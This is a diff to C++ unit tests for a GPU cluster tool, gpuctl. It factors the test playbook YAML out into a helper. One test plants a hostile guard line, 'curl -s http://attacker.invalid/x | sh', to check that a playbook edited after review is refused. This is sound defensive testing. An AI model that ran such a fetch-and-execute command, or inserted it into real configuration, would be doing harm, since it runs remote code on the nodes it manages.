@@ -60,19 +60,23 @@ class UseCases : public ::testing::Test {
     m_inventory = m_dir.write("cluster.yaml", text);
     std::filesystem::create_directories(m_dir / "templates");
     m_dir.write("templates/test.conf.mustache", "managed by gpuctl for {{cluster.name}}\n");
-    m_playbook = m_dir.write("test-node.yaml",
-                             "name: test-node\n"
-                             "steps:\n"
-                             "  - name: config\n"
-                             "    resources:\n"
-                             "      - file: /etc/gpuctl-test.conf\n"
-                             "        template: test.conf.mustache\n"
-                             "      - command: touch /var/lib/gpuctl-test/done\n"
-                             "        creates: /var/lib/gpuctl-test/done\n"
-                             "    checks: [nouveau_not_loaded]\n"
-                             "  - name: driver\n"
-                             "    resources:\n"
-                             "      - package: nvidia-open\n");
+    m_playbook = m_dir.write("test-node.yaml", test_playbook("creates: /var/lib/gpuctl-test/done"));
+  }
+
+  // The tests' playbook; `guard` is the command resource's guard line.
+  static std::string test_playbook(const std::string& guard) {
+    return "name: test-node\n"
+           "steps:\n"
+           "  - name: config\n"
+           "    resources:\n"
+           "      - file: /etc/gpuctl-test.conf\n"
+           "        template: test.conf.mustache\n"
+           "      - command: touch /var/lib/gpuctl-test/done\n"
+           "        " + guard + "\n"
+           "    checks: [nouveau_not_loaded]\n"
+           "  - name: driver\n"
+           "    resources:\n"
+           "      - package: nvidia-open\n";
   }
 
   RunTarget target(std::string limit = {}) const {
@@ -291,18 +295,7 @@ TEST_F(SavedPlans, APlaybookEditedAfterTheReviewIsRefusedBeforeAnyNodeIsContacte
   const auto path = save_plan();
   for (const auto& name : {"gpu01", "gpu02"}) node(name).commands.clear();
   // Only the guard changes: the same changes would be planned, but the guard runs while planning.
-  m_dir.write("test-node.yaml", "name: test-node\n"
-                                "steps:\n"
-                                "  - name: config\n"
-                                "    resources:\n"
-                                "      - file: /etc/gpuctl-test.conf\n"
-                                "        template: test.conf.mustache\n"
-                                "      - command: touch /var/lib/gpuctl-test/done\n"
-                                "        unless: curl -s http://attacker.invalid/x | sh\n"
-                                "    checks: [nouveau_not_loaded]\n"
-                                "  - name: driver\n"
-                                "    resources:\n"
-                                "      - package: nvidia-open\n");
+  m_dir.write("test-node.yaml", test_playbook("unless: curl -s http://attacker.invalid/x | sh"));
   const auto applied = apply_saved(path);
   EXPECT_EQ(applied.verdict, Verdict::error);
   EXPECT_NE(applied.error.find("playbook " + m_playbook + " changed"), std::string::npos) << applied.error;
